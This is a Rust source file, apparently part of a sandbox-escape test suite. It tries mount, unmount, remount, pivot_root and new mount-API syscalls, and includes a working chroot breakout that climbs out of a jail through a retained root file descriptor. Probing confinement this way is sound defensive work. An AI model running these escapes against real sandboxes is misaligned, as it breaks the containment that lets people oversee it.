//! Changing what is mounted, and leaving the root.

use crate::{
    Outcome,
    raw::{bytes, call, text, won},
};
use std::{ffi::CStr, fs, os::unix::fs::MetadataExt};

pub fn attack(name: &str, _: &str) -> Option<Outcome> {
    Some(match name {
        "mount-tmpfs" => mount(c"tmpfs", c"/tmp", 0, c""),
        "mount-proc" => mount(c"proc", c"/tmp", 0, c""),
        "mount-sysfs" => mount(c"sysfs", c"/tmp", 0, c""),
        "mount-cgroup" => mount(c"cgroup", c"/tmp", 0, c"memory"),
        "mount-cgroup2" => mount(c"cgroup2", c"/tmp", 0, c""),
        "mount-devpts" => mount(c"devpts", c"/tmp", 0, c""),
        "mount-overlay" => mount(c"overlay", c"/tmp", 0, c"lowerdir=/bin:/etc"),
        "bind-root" => mount(c"/", c"/tmp", libc::MS_BIND, c""),
        "remount-proc-sys" => mount(c"proc", c"/proc/sys", libc::MS_REMOUNT | libc::MS_BIND, c""),
        "remount-sys" => mount(c"sysfs", c"/sys", libc::MS_REMOUNT, c""),
        "umount-kcore" => call(libc::SYS_umount2, [text(c"/proc/kcore"), 2]).map(won),
        "umount-proc-sys" => call(libc::SYS_umount2, [text(c"/proc/sys"), 2]).map(won),
        "pivot-root" => call(libc::SYS_pivot_root, [text(c"/"), text(c"/tmp")]).map(won),
        "fsopen" => call(libc::SYS_fsopen, [text(c"proc"), 0]).map(won),
        "open-tree" => call(libc::SYS_open_tree, [AT_FDCWD, text(c"/"), 1]).map(won),
        "move-mount" => {
            let path = text(c"/proc");
            call(libc::SYS_move_mount, [AT_FDCWD, path, AT_FDCWD, text(c"/tmp"), 0]).map(won)
        }
        "mount-setattr" => {
            let mut nothing = [0; 32];
            let to = text(c"/proc/sys");
            call(libc::SYS_mount_setattr, [AT_FDCWD, to, 0, bytes(&mut nothing), 32]).map(won)
        }
        "chroot-out" => chroot_out(),
        _ => return None,
    })
}

const AT_FDCWD: usize = libc::AT_FDCWD as usize;

fn mount(what: &CStr, place: &CStr, flags: libc::c_ulong, options: &CStr) -> Outcome {
    let arguments = [text(what), text(place), text(what), flags as usize, text(options)];
    call(libc::SYS_mount, arguments).map(won)
}

/// The oldest way out of a chroot: open the root, make a root below, and climb from the old one.
fn chroot_out() -> Outcome {
    let of_root = |meta: fs::Metadata| (meta.dev(), meta.ino());
    let before = of_root(fs::metadata("/")?);
    let root = fs::File::open("/")?;
    fs::create_dir_all("/jail")?;
    call(libc::SYS_chroot, [text(c"/jail")])?;
    rustix::process::fchdir(root)?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    call(libc::SYS_chroot, [text(c".")])?;
    let same = of_root(fs::metadata("/")?) == before;
    Ok(if same { "in the same root" } else { "in another root" }.to_owned())
}
